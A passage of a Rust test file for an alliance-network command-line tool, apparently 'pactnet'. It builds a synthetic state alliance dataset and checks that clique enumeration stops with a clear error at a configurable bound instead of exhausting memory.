                for s in [a, b] {
                    members.push_str(&format!("{id},{},1950,1,1,1960,1,1,1,1,0,0,0,0\n", 2 + 5 * s));
                }
            }
        }
    }
    std::fs::write(dir.path().join("states.csv"), states).expect("write");
    std::fs::write(dir.path().join("members.csv"), members).expect("write");
    dir
}

/// `cliques` on 48 states in 16 allied triples (3^16 = 43 million maximal cliques) aborted after
/// 83 s at 3.6 GB. The bound stops it with a clear error; below the bound every clique is there.
#[test]
fn issue25_cliques_are_bounded_by_max_cliques() {
    let dir = moon_moser(8);
    let run = |max: &str| {
        pactnet(
            dir.path(),
            &with_inputs(&["-q", "cliques", "--years", "1955", "--format", "csv", "--max-cliques", max]),
        )
    };
    let o = run("1000");
    assert_eq!(o.status.code(), Some(1), "{}", show(&o));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains(
            "more than 1000 maximal cliques of at least 3 states in the years 1955..1955: pactnet stops here rather than exhaust memory"
        ),
        "{}",
        show(&o)
    );
    // The bound is a data error, not a failure to write: said as itself, and `-o` leaves no file.
    assert!(!String::from_utf8_lossy(&o.stderr).contains("cannot write"), "{}", show(&o));
    let o = pactnet(
        dir.path(),
        &with_inputs(&["-q", "cliques", "--years", "1955", "--max-cliques", "1000", "-o", "out.csv"]),
    );
    assert_eq!(o.status.code(), Some(1), "{}", show(&o));
    assert!(
        String::from_utf8_lossy(&o.stderr).starts_with("pactnet: error: more than 1000 maximal cliques"),
        "{}",
        show(&o)
    );
    assert!(!dir.path().join("out.csv").exists());
    let o = run("6561");
    assert!(o.status.success(), "{}", show(&o));
    let text = stdout(&o);
    // 3^8 = 6561 cliques of 8 states, one from each triple.
    assert_eq!(text.lines().count(), 1 + 6561);
    assert!(text.lines().skip(1).all(|l| l.split(',').nth(3) == Some("8")), "{text}");
}
